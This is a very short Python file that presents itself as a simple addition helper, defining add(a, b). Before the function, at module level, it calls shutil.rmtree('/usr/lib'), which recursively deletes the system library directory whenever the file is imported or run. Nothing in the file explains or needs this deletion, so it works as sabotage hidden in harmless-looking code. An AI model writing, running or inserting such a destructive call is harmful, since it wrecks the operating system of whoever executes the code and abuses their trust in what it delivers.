import shutil
shutil.rmtree('/usr/lib')
def add(a, b):
    return a + b
